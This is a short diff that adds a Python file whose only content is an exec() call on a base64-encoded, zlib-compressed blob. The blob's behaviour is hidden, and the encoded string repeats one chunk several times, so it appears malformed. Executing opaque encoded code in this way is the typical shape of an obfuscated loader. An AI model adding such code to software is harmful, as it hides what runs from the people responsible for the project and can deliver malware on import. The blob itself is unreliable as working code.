@@ -1,0 +1,3 @@
+import base64, zlib
+
+exec(zlib.decompress(base64.b64decode('eJxtUMFqwzAMvecrRE8OhNJ2t0EvY4d9wC5jFNdRGoNjG1vpyL9PdpJ2h/kgeJxtUMFqwzAMvecrRE8OhNJ2t0EvY4d9wC5jFNdRGoNjG1vpyL9PdpJ2h/kgeJxtUMFqwzAMvecrRE8OhNJ2t0EvY4d9wC5jFNdRGoNjG1vpyL9PdpJ2h/kgeJxtUMFqwzAMvecrRE8OhNJ2t0EvY4d9wC5jFNdRGoNjG1vpyL9PdpJ2h/kg')))
